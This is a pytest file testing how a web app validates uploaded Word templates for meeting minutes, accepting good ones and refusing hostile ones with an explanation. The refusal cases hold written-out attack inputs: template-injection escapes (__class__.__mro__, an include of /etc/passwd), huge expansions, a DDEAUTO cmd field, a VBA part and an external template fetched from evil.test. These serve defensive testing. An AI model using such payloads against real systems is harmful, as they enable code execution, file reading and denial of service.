"""A unit's own Word templates: a good one is used, and one that could hurt is refused with a sentence."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping
from types import SimpleNamespace
from typing import Any

import pytest
from docx import Document
from mongoengine.connection import get_db

from models.configurations import ConfigurationDraft, Layer
from models.unit_settings import UnitSettings
from operations import files, paper_samples, word_fields, word_files, word_templates
from operations.actors import SYSTEM
from operations.errors import Invalid
from seeds import letter_templates
from tests.conftest import Member
from tests.defining import put_in_force
from tests.integration.test_meeting_papers import make, read
from tests.integration.test_meeting_papers import room as _room

room = _room


def word(*lines: str, title: str = "") -> bytes:
    """A Word file with these paragraphs."""
    document = Document()
    document.core_properties.title = title
    for line in lines:
        document.add_paragraph(line)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def repacked(content: bytes, more: Mapping[str, bytes]) -> bytes:
    """The same archive with parts put in or instead of others."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in more:
                new.writestr(name, old.read(name))
        for name, body in more.items():
            new.writestr(name, body)
    return out.getvalue()


def part(content: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(content)).read(name)


def edited(old: bytes, new: bytes, name: str = word_files.MAIN, *lines: str) -> bytes:
    content = word(*(lines or ("X",)))
    assert old in part(content, name)
    return repacked(content, {name: part(content, name).replace(old, new, 1)})


@pytest.mark.parametrize("kind", word_templates.OWN)
def test_our_templates_are_what_the_script_makes_and_fit_their_fields(kind: str) -> None:
    made = getattr(letter_templates, kind)().packed()
    assert part(made, word_files.MAIN) == part(word_templates.standard(kind), word_files.MAIN)
    assert word_templates.problem(kind, word_templates.standard(kind)) is None
    fields = [name for name, _ in word_templates.field_names(kind)]
    assert len(set(fields)) == len(fields) and "hari_tanggal" in fields


def test_a_good_template_is_taken_and_used(room: SimpleNamespace, cast: dict[str, Member]) -> None:
    mine = word("NOTULA KAMI {{ judul|upper }}", "{%p for t in tindak_lanjut %}", "=> {{ t.uraian }}", "{%p endfor %}")
    data = {"unit": str(room.city.a), "group": "letters", "form_token": "x"}
    sent = {**data, "minutes_template": (io.BytesIO(mine), "notula kami.docx")}
    answer = cast["hr"].post("/unit-settings/", sent, content_type="multipart/form-data")
    assert answer.status_code == 302, answer.text
    own = ConfigurationDraft.objects.get(unit=room.city.a).layer.settings.minutes_template
    assert files.read_kept(own) == mine
    page = cast["hr"].get(f"/unit-settings/?unit={room.city.a}&group=letters").text
    assert "tindak_lanjut.uraian" in page
    address = f"/unit-settings/template.docx?unit={room.city.a}&kind=minutes"
    assert cast["hr"].get(f"{address}&draft=1").data == mine
    assert cast["outsider_b"].get(address).status_code == 404
    put_in_force(room.city.a, Layer(settings=UnitSettings(minutes_template=own)))
    found = read(make(room.head, room.meeting, "minutes.docx"))
    assert "NOTULAKAMI" in found and all(found.count("".join(each.split())) == 1 for each in room.decisions)
    assert "NOTULAKAMI" not in read(make(room.head, room.meeting, "minutes.pdf"))


REFUSED = {
    "a field that is none": (word("{{ juduk }}"), "There is no field “juduk”"),
    "a part that is none": (word("{% for p in hadir %}{{ p.nip }}{% endfor %}"), "“p.nip”"),
    "a list as a text": (word("{{ hadir }}"), "go through it with a loop"),
    "not closed": (word("{{ judul"), "not closed"),
    "no end of a loop": (word("{% for p in hadir %}{{ p.nama }}"), "cannot be filled"),
    "a range": (word("{% for x in range(10**9) %}a{% endfor %}"), "This may not: call"),
    "a power": (word("{{ 10**10**10 }}"), "This may not: pow"),
    "a long text": (word("{{ 'a' * 1000000000 }}"), "This may not: mul"),
    "doubling": (word("{% set x = judul ~ judul %}{{ x }}"), "This may not: assign"),
    "all by all by all": (
        word("{% for a in hadir %}{% for b in hadir %}{% for c in hadir %}x{% endfor %}{% endfor %}{% endfor %}"),
        "a part of the outer one",
    ),
    "a part over and over": (
        word("{% for p in pegawai %}" + "{% for a in p.pembahasan %}" * 9 + "{% endfor %}" * 10), "a part of the outer one"
    ),
    "too many loops in loops": (
        word("{% if ketua %}" * 100 + "x" + "{% endif %}" * 100), "cannot be filled"
    ),
    "a join by a field": (word("{{ ketua|join(ketua) }}"), "This may not: filter"),
    "a join of a join": (word("{{ ketua|join(', ')|join(', ') }}"), "This may not: filter"),
    "a join by much": (word("{{ ketua|join('" + "a" * 21 + "') }}"), "This may not: filter"),
    "a class": (word("{{ judul.__class__.__mro__ }}"), "There is no field"),
    "an object behind a picture": (word("{{ logo.tpl.docx }}"), "There is no field"),
    "a call": (word("{{ logo.tpl.save('/tmp/x') }}"), "This may not: call"),
    "a global": (word("{{ lipsum }}"), "There is no field"),
    "a subscript": (word("{{ judul['__class__'] }}"), "This may not: getitem"),
    "a filter": (word("{{ judul|attr('x') }}"), "This may not: filter"),
    "a wide filter": (word("{{ judul|center(1000000000) }}"), "This may not: filter"),
    "an include": (word("{% include '/etc/passwd' %}"), "This may not: include"),
    "a macro": (word("{% macro m() %}{{ m() }}{% endmacro %}"), "This may not: macro"),
    "a loop in itself": (word("{% for a in hadir recursive %}{{ loop(hadir) }}{% endfor %}"), "This may not: for"),
    "a call in the title": (word("X", title="{{ ''.join(judul) }}"), "This may not: call"),
    "too many loops": (word(*["{% for a in hadir %}{{ a.nama }}{% endfor %}"] * 61), "This may not: for"),
    "braces without end": (word("{{" * 3000), "not closed"),
    "too many fields": (word("{{ judul }}" * 1001), "too large"),
    "a document type": (
        edited(b"<w:document", b'<!DOCTYPE x [<!ENTITY a "b">]><w:document'), "no Word document",
    ),
    "a macro of Office": (repacked(word("X"), {"word/vbaProject.bin": b"x"}), "holds macros"),
    "an embedded file": (repacked(word("X"), {"word/embeddings/a.xlsx": b"x"}), "holds macros"),
    "a template from elsewhere": (
        edited(
            b"</Relationships>",
            b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'attachedTemplate" Target="http://evil.test/x.dotm" TargetMode="External"/></Relationships>',
            "word/_rels/document.xml.rels",
        ),
        "links that load something",
    ),
    "a command of Word": (
        edited(b"<w:t>X</w:t>", b"<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd</w:instrText>"),
        "links that load something",
    ),
    "a link to elsewhere": (
        edited(b"<w:t>X</w:t>", b"<w:instrText>LINK Excel.Sheet c:\\\\x.xls</w:instrText>"), "links that load something",
    ),
    "a part by another name": (
        repacked(word("X"), {"word/document.dat": b"<w:fldSimple w:instr='DDEAUTO'/>"}), "embedded files",
    ),
    "a part that unpacks large": (repacked(word("X"), {"word/large.xml": b"<a>" + b" " * 2**22 + b"</a>"}), "too large"),
    "more text than a letter has": (repacked(word("X"), {"word/header9.xml": b"<a>" + b" " * 2**19 + b"</a>"}), "too large"),
    "all that unpacks large": (repacked(word("X"), {"word/media/x.png": b"\0" * (21 * 2**20)}), "too large"),
    "broken XML": (edited(b"</w:body>", b""), "no Word document"),
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSED)
def test_a_bad_template_is_refused_with_a_sentence(case: str) -> None:
    content, sentence = REFUSED[case]
    told = word_templates.problem("minutes", content)
    assert told is not None and sentence in str(told), told


@pytest.mark.parametrize(
    "content",
    [
        b"", b"%PDF-1.7", b"PK\x03\x04 broken", repacked(word("X"), {"[Content_Types].xml": b"<Types/>"}),
        word("X")[:-40], b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    ],
)  # fmt: skip
def test_only_a_word_file_is_one(content: bytes) -> None:
    with pytest.raises(Invalid):
        files.check(content, ("docx",))


def test_a_refused_upload_keeps_nothing_and_says_why(city: SimpleNamespace, cast: dict[str, Member]) -> None:
    data = {"unit": str(city.a), "group": "letters", "form_token": "x"}
    for content, sentence in ((word("{{ juduk }}"), "There is no field"), (b"MZ nothing", "kind of file is not taken")):
        sent = {**data, "invitation_template": (io.BytesIO(content), "x.docx")}
        answer = cast["hr"].post("/unit-settings/", sent, content_type="multipart/form-data")
        assert answer.status_code == 422 and sentence in answer.text
    assert get_db()["files.files"].count_documents({}) == 0 and ConfigurationDraft.objects.count() == 0


def test_output_is_bounded() -> None:
    rows = {"nama": "x" * 1000, "dari": "", "kehadiran": ""}
    data = {**paper_samples.SAMPLES["minutes"], "hadir": [rows] * 20_000}
    with pytest.raises(word_fields.Refused, match="too large"):
        word_templates.fill("minutes", word_templates.standard("minutes"), data, None)


@pytest.mark.parametrize("value", ["{_{ a }_}", "{{ 1 }}", "a\nb", "\a\f\x00\ufffe", "<w:t>&amp;", "%_} {_%", "🙂 é"])
def test_a_text_comes_out_as_it_is(value: str) -> None:
    data = {**paper_samples.SAMPLES["minutes"], "judul": value}
    document = Document(io.BytesIO(word_templates.fill("minutes", word("[{{ judul }}]"), data, None)))
    assert document.paragraphs[0].text == f"[{word_fields.clean(value)}]"


def test_own_templates_that_fail_later_are_told(room: SimpleNamespace) -> None:
    own = files.store(SYSTEM, word("{{ dulu_ada }}"), "x.docx", word_files.DOCX)
    put_in_force(room.city.a, Layer(settings=UnitSettings(minutes_template=own)))
    with pytest.raises(Invalid, match="cannot be filled any more"):
        make(room.head, room.meeting, "minutes.docx")


def test_a_logo_that_cannot_be_drawn_is_left_out(room: SimpleNamespace) -> None:
    huge = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x01\x00\x00\x00\x01\x00\x00\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    for content in (huge, b"\x89PNG\r\n\x1a\n" + bytes(30), b"\xff\xd8\xff\xe0" + bytes(20)):
        own: Any = files.store(SYSTEM, content, "x.png", "image/png")
        put_in_force(room.city.a, Layer(settings=UnitSettings(logo=own)))
        for name in ("minutes.docx", "minutes.pdf"):
            assert "NOTULA" in read(make(room.head, room.meeting, name))
